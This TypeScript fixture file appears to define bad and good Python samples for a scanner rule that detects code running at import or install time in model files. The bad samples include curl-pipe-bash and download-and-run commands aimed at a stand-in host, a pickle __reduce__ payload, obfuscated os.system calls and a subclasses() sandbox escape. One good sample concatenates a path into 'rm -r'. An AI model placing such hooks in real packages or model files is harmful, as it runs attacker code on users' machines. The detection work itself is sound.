import type { Example, RuleExamples } from '../../../model/rule.ts'

function py(text: string, path = 'modeling_x.py'): Example {
  return { path, bytes: Buffer.from(text) }
}

export const examples: RuleExamples = {
  bad: [
    py('import os\nos.system("echo x")'),
    py('import sys, subprocess\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "x"])'),
    py('import subprocess as s\ns.run(["touch", "/tmp/x"])'),
    py('import os\nclass M(PreTrainedModel):\n    def __init__(self, c):\n        os.system("echo x")'),
    py(
      'from setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system("curl https://host.example/i.sh | bash")',
    ),
    py('import os; os.system("echo x")', 'distutils-precedence.pth'),
    py('# weights\nimport os\nos.system("echo x")', 'model.pt'),
    py('from os import *\nsystem("echo x")'),
    py('getattr(__import__("o" + "s"), "sys" + "tem")("echo x")'),
    py('import os\ndef f(x=os.system("echo x")):\n    pass'),
    py('import os\nclass P:\n    def __reduce__(self):\n        return os.system, ("echo x",)'),
    py('import os\ndef __getattr__(n):\n    os.popen("echo x")'),
    py('import atexit, os\natexit.register(os.system, "echo x")'),
    py(
      'import requests, os\nr = requests.get("https://host.example/x")\nopen("/tmp/x", "wb").write(r.content)\nos.system("/tmp/x &")',
    ),
    py('import os\ndef f(u):\n    os.system(f"curl {u} | sh")'),
    py('().__class__.__base__.__subclasses__()[9].__init__.__globals__["system"]("echo x")'),
    py('import timeit\ntimeit.timeit("1", setup="import os; os.system(\'echo x\')")'),
  ],
  good: [
    py('def train(cfg):\n    import subprocess\n    subprocess.run(["deepspeed", "train.py"], check=True)'),
    py('import os\ndef clean(d):\n    os.system("rm -r " + d)'),
    py('if __name__ == "__main__":\n    import os\n    os.system("python prepare.py")'),
    py('class M(PreTrainedModel):\n    def forward(self, x):\n        return self.layer(x)'),
  ],
}
